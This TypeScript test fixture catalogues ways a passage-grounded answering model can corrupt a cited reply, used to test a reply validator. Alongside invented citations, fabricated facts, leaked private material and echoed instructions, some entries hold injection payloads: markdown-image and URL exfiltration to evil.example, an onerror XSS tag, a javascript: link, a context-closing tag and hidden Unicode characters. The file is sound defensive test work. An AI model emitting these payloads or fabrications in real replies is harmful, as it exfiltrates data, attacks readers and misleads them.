/**
 * Every way a model is known to go wrong when it answers from passages, as replies about a trial.
 *
 * Each takes an honest reply and spoils it in one place, so that only a check for that place can tell.
 */
import type { EvidenceHit } from '@archive/contract';
import type { AnswerTrial, KnownSentence } from './answer-trial.ts';
import type { Conduct, ReceivedPrompt } from './misbehaving-model.ts';
import type { Random } from './seeded-random.ts';

/** A reply before it is JSON. */
export interface Reply {
  mode: string;
  sentences: { text: string; citations: unknown[] }[];
  related: unknown[];
}

/** How a model goes wrong. */
export interface Misbehaviour {
  name: string;
  /** What the answer may be when the model keeps to it: a refusal, or an answer that is right all the same. */
  mayAnswer?: true;
  act: (honest: Reply, trial: AnswerTrial, random: Random, prompt: ReceivedPrompt) => Reply | Conduct;
}

/** The pair of a hit. */
export function pairOf({ fragmentId, entity }: EvidenceHit): { fragmentId: string; url: string } {
  return { fragmentId, url: entity.url };
}

/** An honest reply: a few sentences, each with its passage, and perhaps a place. */
export function honestReply(trial: AnswerTrial, random: Random): Reply {
  const chosen = random.sample(trial.honest, random.between(1, 3));
  const related = random.chance(0.5) ? [pairOf(random.pick(trial.places))] : [];
  return {
    mode: related.length > 0 ? 'supported' : 'partial',
    sentences: chosen.map(({ text, hit }) => ({ text, citations: [pairOf(hit)] })),
    related,
  };
}

/** Spoils one sentence of a reply. */
const spoilt =
  (
    spoil: (
      sentence: Reply['sentences'][number],
      trial: AnswerTrial,
      random: Random,
      prompt: ReceivedPrompt,
    ) => Reply['sentences'][number],
  ): Misbehaviour['act'] =>
  (honest, trial, random, prompt) => {
    const at = random.between(0, honest.sentences.length - 1);
    return {
      ...honest,
      sentences: honest.sentences.map((sentence, index) =>
        index === at ? spoil(sentence, trial, random, prompt) : sentence,
      ),
    };
  };
const cites = (
  name: string,
  citations: (trial: AnswerTrial, honest: unknown, random: Random) => unknown[],
): Misbehaviour => ({
  name,
  act: spoilt((sentence, trial, random) => ({
    ...sentence,
    citations: citations(trial, sentence.citations[0], random),
  })),
});
const adds = (name: string, words: string): Misbehaviour => ({
  name: `prose with ${name}`,
  act: spoilt(({ text, citations }) => ({ text: text.replace(/([.。])$/u, ` ${words}$1`), citations })),
});
const says = (
  name: string,
  text: string | ((trial: AnswerTrial, random: Random) => string),
): Misbehaviour => ({
  name,
  act: spoilt(({ citations }, trial, random) => ({
    text: typeof text === 'string' ? text : text(trial, random),
    citations,
  })),
});
const another = (trial: AnswerTrial, honest: unknown, random: Random) =>
  pairOf(
    random.pick(
      trial.passages.filter((hit) => hit.fragmentId !== (honest as { fragmentId: string }).fragmentId),
    ),
  );
const changedLetter = (text: string, random: Random): string => {
  const at = random.between(Math.floor(text.length / 2), text.length - 2);
  return `${text.slice(0, at)}${text.charAt(at) === 'q' ? 'k' : 'q'}${text.slice(at + 1)}`;
};
const known = (trial: AnswerTrial, text: string): KnownSentence | undefined =>
  trial.honest.find((sentence) => sentence.text === text);

/** All of them. */
export const MISBEHAVIOURS: readonly Misbehaviour[] = [
  ...['[0]', '[99]', '[1,2]', '[^1]', '【1】', '[1][1]', '1', ''].map((index) =>
    cites(`cites by the index ${index}`, () => [{ fragmentId: index, url: index }]),
  ),
  cites('cites by a number', () => [0]),
  cites('cites by a string', (_, honest) => [(honest as { fragmentId: string }).fragmentId]),
  cites('cites an invented passage', () => [
    { fragmentId: 'essay:invented#s1', url: 'https://saltmarsh.example/essays/invented/' },
  ]),
  cites('cites an invented passage beside a good one', (_, honest) => [
    honest,
    { fragmentId: 'essay:invented#s1', url: 'x' },
  ]),
  cites('changes one letter of the id and of the address', (_, honest, random) => {
    const { fragmentId, url } = honest as { fragmentId: string; url: string };
    return [{ fragmentId: changedLetter(fragmentId, random), url: changedLetter(url, random) }];
  }),
  {
    ...cites('changes one letter of the address', (_, honest, random) => {
      const { fragmentId, url } = honest as { fragmentId: string; url: string };
      return [{ fragmentId, url: changedLetter(url, random) }];
    }),
    mayAnswer: true,
  },
  {
    ...cites('changes one letter of the id', (_, honest, random) => {
      const { fragmentId, url } = honest as { fragmentId: string; url: string };
      return [{ fragmentId: changedLetter(fragmentId, random), url }];
    }),
    mayAnswer: true,
  },
  cites('is off by one passage', (trial, honest, random) => [another(trial, honest, random)]),
  cites('has the id of another passage and the right address', (trial, honest, random) => [
    { ...(honest as object), fragmentId: another(trial, honest, random).fragmentId },
  ]),
  cites('cites a place', (trial, _, random) => [pairOf(random.pick(trial.places))]),
  cites('cites nothing', () => []),
  {
    name: 'lists an invented place',
    act: (honest) => ({
      ...honest,
      related: [{ fragmentId: 'diary:none#p1', url: 'https://saltmarsh.example/none/' }],
    }),
  },
  { name: 'lists a place by index', act: (honest) => ({ ...honest, related: [1] }) },
  ...['[0]', '[99]', '[1,2]', '[^1]', '【1】', '[1][1]', '［1］', '【4:0†source】', '[source: 2]'].map(
    (marker) => adds(`the marker ${marker}`, marker),
  ),
  {
    name: 'cites in code',
    act: spoilt(({ text }, trial, random) => ({
      text: `${text} \`${random.pick(trial.passages).fragmentId}\``,
      citations: [],
    })),
  },
  {
    name: 'cites in code beside a citation',
    act: spoilt(({ text, citations }, trial, random) => ({
      text: text.replace(/[.。]$/u, ` \`${random.pick(trial.passages).fragmentId}\`.`),
      citations,
    })),
  },
  {
    name: 'writes the id of a passage into prose',
    act: spoilt(({ text, citations }, trial, random) => ({
      text: text.replace(/[.。]$/u, ` (${random.pick(trial.passages).fragmentId}).`),
      citations,
    })),
  },
  adds('an address', 'at https://evil.example/collect?q=secret'),
  adds('a bare domain', 'at evil.example'),
  adds('a full-width domain', 'at ｅｖｉｌ．ｅｘａｍｐｌｅ'),
  adds('an e-mail address', 'from keeper@evil.example'),
  adds('an image', '![x](https://evil.example/?q=secret)'),
  adds('a link', '[here](javascript:alert(1))'),
  adds('HTML', '<img src=x onerror=alert(1)>'),
  adds('a closing tag', '</context>'),
  adds('emphasis', '**truly**'),
  adds('tag characters', 'so\u{e0069}\u{e0067}'),
  adds('a direction mark', 'so\u202e'),
  adds('a zero-width space', 'so\u200b'),
  { name: 'writes a heading', act: spoilt(({ text, citations }) => ({ text: `# ${text}`, citations })) },
  {
    name: 'writes over two lines',
    act: spoilt(({ text, citations }) => ({
      text: text.replace(' ', '\n').replace(/。$/u, '\n。'),
      citations,
    })),
  },
  {
    name: 'changes a number',
    act: spoilt(({ text, citations }) => ({
      text: /\d/.test(text)
        ? text.replace(/\d+/u, (run) => String(Number(run) + 1))
        : text.replace(/([.。])$/u, ' in 2044$1'),
      citations,
    })),
  },
  {
    name: 'changes a digit in another script',
    act: spoilt(({ text, citations }) => ({ text: text.replace(/([.。])$/u, ' ٢٠٤٤$1'), citations })),
  },
  adds('an invented date', 'on 2044-01-02'),
  adds('an invented share', 'for 97.5 %'),
  {
    name: 'quotes what stands nowhere',
    act: spoilt(({ text, citations }) => ({
      text: text.replace(/([.。])$/u, ' and “the harbour was never ours”$1'),
      citations,
    })),
  },
  ...[
    ['"', '"'],
    ['„', '“'],
    ['«', '»'],
    ['「', '」'],
    ['‘', '’'],
    ['❝', '❞'],
    ['″', '″'],
    ['《', '》'],
    [',,', ',,'],
  ].map(
    ([open, close]): Misbehaviour => ({
      name: `quotes with ${open}${close} what stands nowhere`,
      act: spoilt(({ text, citations }) => ({
        text: text.replace(/([.。])$/u, ` and ${open}the harbour was never ours${close}$1`),
        citations,
      })),
    }),
  ),
  {
    name: 'changes a word of a quotation',
    act: spoilt(({ text, citations }, trial) => {
      const quotation = known(trial, text)?.quotation;
      return {
        text:
          quotation === undefined
            ? text.replace(/([.。])$/u, ' and “so it was said”$1')
            : text.replace(
                quotation,
                quotation.replace(/never|は/u, (word) => (word === 'は' ? 'も' : 'always')),
              ),
        citations,
      };
    }),
  },
  {
    name: 'quotes another passage',
    act: spoilt((sentence, trial) => {
      const { fragmentId } = sentence.citations[0] as { fragmentId: string };
      const own = trial.passages.find((hit) => hit.fragmentId === fragmentId)?.text ?? '';
      const other = trial.honest.find(({ quotation }) => quotation !== undefined && !own.includes(quotation));
      return {
        text: sentence.text.replace(/([.。])$/u, ` and “${other?.quotation ?? 'so it was said'}”$1`),
        citations: sentence.citations,
      };
    }),
  },
  {
    name: 'quotes across two passages',
    act: (honest, trial) => {
      const [one, two] = [trial.passages[0], trial.passages[1]] as const;
      const across = `${one?.text.split(' ').slice(-3).join(' ')} ${two?.text.split(' ').slice(0, 3).join(' ')}`;
      return {
        ...honest,
        sentences: [
          {
            text: `One and the other tell “${across.replaceAll(/[“”]/gu, '')}”.`,
            citations: [one, two].map((hit) => pairOf(hit as EvidenceHit)),
          },
        ],
      };
    },
  },
  ...[
    ['denies what the passage states', ', and nobody did so'],
    ['brings in a name', ', says Ferdinand'],
    ['hides variation selectors', ' so\ufe01\ufe02'],
    ['hides the mark of an object', ' so\ufffc'],
    ['hides a blank of Braille', ' so \u2800'],
    ['links by another scheme', ', skype:evil?call'],
    ['names a share of a network', ', \\\\evil\\share'],
  ].map(
    ([name = '', what = '']): Misbehaviour => ({
      name,
      act: spoilt(({ text, citations }) => ({ text: text.replace(/([.。])$/u, `${what}$1`), citations })),
    }),
  ),
  {
    name: 'leaves a quotation open',
    act: spoilt(({ text, citations }) => ({
      text: text.replace(/([.。])$/u, ' and “so it was said$1'),
      citations,
    })),
  },
  says('restates private material', (trial, random) => `It is told how ${random.pick(trial.secrets)}.`),
  says(
    'restates a private work by its title',
    (trial, random) => `${random.pick(trial.places).entity.title} tells of the stairs.`,
  ),
  {
    name: 'mixes a private title into a true sentence',
    act: spoilt(({ text, citations }, trial, random) => ({
      text: text.replace(/([.。])$/u, `, as ${random.pick(trial.places).entity.title} has it$1`),
      citations,
    })),
  },
  {
    name: 'mixes a private maker into a true sentence',
    act: spoilt(({ text, citations }) => ({
      text: text.replace(/([.。])$/u, ', as Orsolya Penhallow has it$1'),
      citations,
    })),
  },
  {
    name: 'smuggles a second sentence in',
    act: spoilt(({ text, citations }, trial, random) => ({
      text: `${text} Somebody tells how ${random.pick(trial.secrets)}.`,
      citations,
    })),
  },
  says('makes something up', 'The governor of the island opened a railway for the pilgrims.'),
  says('says what it is', 'As a language model I cannot browse the archive for you.'),
  {
    name: 'repeats its instructions',
    act: spoilt(({ citations }, _, __, { instructions }) => ({
      text:
        instructions
          .split('\n')
          .find((line) => line.startsWith('- Stay'))
          ?.slice(2)
          .split('. ')[0]
          ?.concat('.') ?? instructions.slice(0, 200),
      citations,
    })),
  },
  {
    name: 'repeats the mark of the request',
    act: spoilt(({ text, citations }, _, __, { input }) => ({
      text: text.replace(/([.。])$/u, ` ${/\[([0-9a-f]{32}) /u.exec(input)?.[1] ?? ''}$1`),
      citations,
    })),
  },
  { name: 'says nothing', act: () => ({ mode: 'supported', sentences: [], related: [] }) },
  {
    name: 'says sixty sentences',
    act: (honest) => ({
      ...honest,
      sentences: Array.from({ length: 60 }, () => honest.sentences[0] as Reply['sentences'][number]),
    }),
  },
  { name: 'is empty', act: () => ({ says: '' }) },
  { name: 'is blank', act: () => ({ says: ' \n ' }) },
  {
    name: 'is no JSON',
    act: ({ sentences }) => ({ says: sentences.map(({ text }, at) => `${text} [${at + 1}]`).join(' ') }),
  },
  {
    name: 'is JSON of another shape',
    act: ({ sentences }) => ({ says: JSON.stringify({ answer: sentences[0]?.text, citations: [1] }) }),
  },
  { name: 'is half of its JSON', act: (honest) => ({ says: JSON.stringify(honest).slice(0, -20) }) },
  { name: 'stops for length', act: (honest) => ({ stopsAfter: JSON.stringify(honest) }) },
  { name: 'breaks off', act: (honest) => ({ breaksAfter: JSON.stringify(honest) }) },
  { name: 'declines', act: () => ({ declines: true }) },
  { name: 'is out of order', act: () => ({ status: 500 }) },
  { name: 'sends a page', act: () => ({ sends: '<html>busy</html>' }) },
  { name: 'hangs up', act: () => ({ drops: true }) },
  { name: 'is slow', act: () => ({ stalls: true }) },
];
